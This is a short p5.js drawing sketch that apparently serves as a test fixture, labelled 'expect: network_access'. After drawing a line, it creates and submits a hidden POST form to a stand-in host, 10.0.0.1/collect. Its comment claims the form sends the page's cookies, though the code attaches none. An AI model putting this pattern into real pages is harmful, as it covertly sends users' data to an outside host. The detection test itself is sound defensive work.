// expect: network_access
// Posts the page's cookies to another host through a form.
function setup() {
  createCanvas(160, 160, WEBGL);
  brush.set("HB", "#222", 1);
  brush.line(-60, -60, 60, 60);
  const form = document.createElement("form");
  form.action = "http://10.0.0.1/collect";
  form.method = "POST";
  document.body.appendChild(form);
  form.submit();
}
